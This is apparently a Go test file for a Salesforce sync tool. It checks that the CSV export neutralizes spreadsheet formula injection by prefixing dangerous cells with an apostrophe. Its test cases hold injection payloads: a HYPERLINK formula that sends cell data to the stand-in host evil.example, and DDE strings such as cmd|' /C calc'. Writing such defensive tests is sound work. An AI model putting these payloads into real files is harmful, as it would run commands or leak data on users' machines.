package export

import (
	"bytes"
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/sfsync/sfsync/core/salesforce"
	"github.com/sfsync/sfsync/core/store"
	"github.com/sfsync/sfsync/core/wording"
)

func TestNeutralize(t *testing.T) {
	cases := map[string]string{
		// OWASP's and ASVS's formula starts.
		`=HYPERLINK("http://evil.example/?"&A1,"Open")`: `'=HYPERLINK("http://evil.example/?"&A1,"Open")`,
		"+cmd|' /C calc'!A0":                            "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                        "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0":                   "'@SUM(1+9)*cmd|' /C calc'!A0",
		"\t=1+1":                                        "'\t=1+1", "\r=1+1": "'\r=1+1", "\n=1+1": "'\n=1+1", "\x00=1": "'\x00=1",
		"  =1+1": "'  =1+1", "＝1+1": "'＝1+1", "＠SUM(A1)": "'＠SUM(A1)",
		"+1 415 555 0100": "'+1 415 555 0100", // a phone number is text, not a number
		"-":               "'-", "--": "'--", "-12.5 EUR": "'-12.5 EUR",
		// Plain numbers stay numbers.
		"-12.5": "-12.5", "+3": "+3", "-0.001": "-0.001", "-1e-7": "-1e-7", "-.5": "-.5", "-12.": "-12.",
		// Everything else is untouched.
		"": "", "Acme": "Acme", "a=b": "a=b", "1-2": "1-2", " leading space": " leading space", "'quoted": "'quoted",
		"Zürich – 東京": "Zürich – 東京", "ｱ": "ｱ",
	}
	for in, want := range cases {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// formulaStore holds Opportunities whose Name is attacker-controlled text
// and whose Amount (a currency field) is negative.
func formulaStore(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(t.TempDir(), store.Options{NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	d := salesforce.SObjectDescribe{Name: "Opportunity", Label: "Opportunity", Fields: []salesforce.Field{
		field("Id", "Opportunity ID", "id"), field("Name", "Name", "string"),
		field("Amount", "Amount", "currency"), field("Description", "=Formula label", "textarea"),
		field("IsDeleted", "Deleted", "boolean"), field("SystemModstamp", "System Modstamp", "datetime"),
	}}
	if err := st.PutSchema(d.Name, d); err != nil {
		t.Fatal(err)
	}
	if err := st.PutSettings(store.SourceSettings{Fields: map[string][]string{"Opportunity": {"Name", "Amount", "Description"}}}); err != nil {
		t.Fatal(err)
	}
	rows := [][]string{
		{"006000000000001AAA", `=HYPERLINK("http://evil.example","Click")`, "-12.5", "-12.5"},
		{"006000000000002AAA", "@SUM(1+9)", "+3", "-2+3"},
		{"006000000000003AAA", "Plain deal", "1000", "\tTAB"},
	}
	if _, err := st.ApplyPage(store.Page{Object: "Opportunity", Columns: []string{"Id", "Name", "Amount", "Description"},
		Rows: store.CSVRows(rows)}); err != nil {
		t.Fatal(err)
	}
	return st
}

// TestExportNeutralizesFormulas (issue 11 case 11): by default formulas in
// text fields and labels open as text, negative amounts (and a text field
// holding only a number) stay numbers; Raw writes every value as stored.
func TestExportNeutralizesFormulas(t *testing.T) {
	st := formulaStore(t)
	cases := []struct {
		name string
		opts Options
		want [][]string
	}{
		{"default", Options{Object: "Opportunity", Header: HeaderLabels}, [][]string{
			{"Opportunity ID", "Name", "Amount", "'=Formula label"},
			{"006000000000001AAA", `'=HYPERLINK("http://evil.example","Click")`, "-12.5", "-12.5"},
			{"006000000000002AAA", "'@SUM(1+9)", "+3", "'-2+3"},
			{"006000000000003AAA", "Plain deal", "1000", "'\tTAB"},
		}},
		{"raw", Options{Object: "Opportunity", Header: HeaderLabels, Raw: true}, [][]string{
			{"Opportunity ID", "Name", "Amount", "=Formula label"},
			{"006000000000001AAA", `=HYPERLINK("http://evil.example","Click")`, "-12.5", "-12.5"},
			{"006000000000002AAA", "@SUM(1+9)", "+3", "-2+3"},
			{"006000000000003AAA", "Plain deal", "1000", "\tTAB"},
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			if _, err := Write(context.Background(), st, &buf, c.opts); err != nil {
				t.Fatal(err)
			}
			got := parse(t, buf.Bytes())
			if !slices.EqualFunc(got, c.want, slices.Equal[[]string]) {
				t.Errorf("export\n got %q\nwant %q", got, c.want)
			}
		})
	}
}

// TestNeutralisedSentenceNamesWhatItNeutralises: the export dialog's and
// `sfsync export --help`'s sentence names every kind of first character
// Neutralize prefixes; it named = + - @ while tabs and line breaks (issue
// 11 case 11) got the apostrophe unexplained.
func TestNeutralisedSentenceNamesWhatItNeutralises(t *testing.T) {
	for _, c := range []struct{ cell, word string }{
		{"=1+1", "="}, {"+1x", "+"}, {"-x", "-"}, {"@SUM(A1)", "@"}, {"\tx", "tab"}, {"\rx", "line break"}, {"\nx", "line break"},
	} {
		if Neutralize(c.cell) == c.cell {
			t.Fatalf("Neutralize(%q) left it as it is", c.cell)
		}
		if !strings.Contains(wording.ExportNeutralised, c.word) {
			t.Errorf("%q gets an apostrophe but wording.ExportNeutralised does not name %q: %s", c.cell, c.word, wording.ExportNeutralised)
		}
	}
}
